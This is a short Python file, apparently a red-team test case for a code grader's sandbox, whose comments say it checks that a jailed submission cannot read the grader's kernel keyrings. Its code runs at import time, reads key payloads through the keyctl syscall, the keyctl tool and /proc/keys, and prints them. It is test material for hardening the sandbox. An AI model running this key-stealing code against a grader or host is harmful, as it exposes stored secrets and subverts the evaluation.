# ATTACK: read the grader's kernel keyrings. At import, the module lists the session, process,
#   thread, user and user-session keyrings with the keyctl syscall (and /proc/keys, and the
#   keyctl program if the jail has it) and prints every payload it can read.
# SAFE GRADER: the jail gets a fresh, empty session keyring and cannot call keyctl (seccomp):
#   nothing of the grader's keys is printed; the honest functions score in full.
# VERDICT:
# MODES: bwrap plain
import ctypes as _ctypes
import subprocess as _subprocess

_libc = _ctypes.CDLL(None, use_errno=True)
_SYS_KEYCTL = 250  # x86_64
_loot = []


def _keyctl(*args):
    return _libc.syscall(_SYS_KEYCTL, *[_ctypes.c_long(a) for a in args])


def _read(serial):
    buffer = _ctypes.create_string_buffer(1 << 16)
    size = _libc.syscall(_SYS_KEYCTL, _ctypes.c_long(11), _ctypes.c_long(serial), buffer, _ctypes.c_long(1 << 16))
    return buffer.raw[: max(size, 0)] if size >= 0 else None


for _ring in (-3, -2, -1, -4, -5):  # session, process, thread, user, user session
    try:
        _serial = _keyctl(0, _ring, 0)
        _ids = _read(_serial) if _serial > 0 else None
        for _i in range(0, len(_ids or b""), 4):
            _key = int.from_bytes(_ids[_i : _i + 4], "little", signed=True)
            _payload = _read(_key)
            if _payload:
                _loot.append(_payload.decode("latin-1"))
    except Exception:
        pass
for _command in (["keyctl", "show", "@s"], ["keyctl", "print", "%user:dlgrade_redteam_canary"], ["cat", "/proc/keys"]):
    try:
        _loot.append(_subprocess.run(_command, capture_output=True, text=True, timeout=2).stdout)
    except Exception:
        pass
print("\n".join(_loot))
